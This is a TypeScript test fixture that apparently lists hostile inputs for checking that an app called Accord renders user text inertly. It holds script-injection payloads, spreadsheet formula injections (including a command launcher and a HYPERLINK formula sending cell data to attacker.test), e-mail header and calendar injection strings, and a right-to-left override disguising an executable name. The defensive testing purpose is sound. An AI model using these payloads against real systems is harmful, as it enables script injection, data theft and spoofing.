/**
 * Text an attacker types into a field that Accord shows somewhere else: markup and script for
 * pages, formulas for spreadsheets, line breaks for e-mail headers and calendar files, and the
 * characters that disguise text. Each one must come out as the same literal text, inert.
 */
export const hostilePayloads = {
  scriptTag: '<script>alert(1)</script>',
  attributeBreakout: '"><img src=x onerror=alert(1)>',
  javascriptUrl: 'javascript:alert(1)',
  svgOnload: '<svg onload=alert(1)>',
  iframeSrcdoc: '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  templateExpression: '{{7*7}} ${7*7} <%= 7*7 %>',
  markdownLink: '[click me](javascript:alert(1)) ![x](x" onerror="alert(1))',
  formulaHyperlink: '=HYPERLINK("http://attacker.test/?q="&A1,"Click")',
  formulaCommand: "+cmd|' /C calc'!A0",
  formulaAt: '@SUM(1+1)*cmd|" /C calc"!A0',
  formulaMinus: '-1+1',
  formulaTab: '\t=1+1',
  headerInjection: 'Hello\r\nBcc: victim@attacker.test\r\nX-Injected: yes',
  icsInjection:
    'Lunch\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Injected\r\nATTENDEE:mailto:x@attacker.test',
  rightToLeftOverride: 'invoice\u202Efdp.exe',
  nullByte: 'before\u0000after',
} as const;

export type HostilePayloadName = keyof typeof hostilePayloads;

/** The payloads that fit a one-line field (a name, a title): those without a line break. */
export const singleLinePayloads = Object.entries(hostilePayloads)
  .filter(([, text]) => !/[\r\n]/.test(text))
  .map(([name, text]) => ({ name: name as HostilePayloadName, text }));

/** What a payload is stored and shown as: the null byte, which PostgreSQL cannot hold, dropped. */
export function storedForm(payload: string) {
  return payload.replace(/\u0000/g, '');
}

/** Elements the payloads' markup would leave in a page had it been parsed: none may exist. */
export const injectedElementSelector = [
  'img[src="x"]',
  '[onerror]',
  '[onload]',
  'iframe[srcdoc]',
  'a[href^="javascript:"]',
].join(', ');
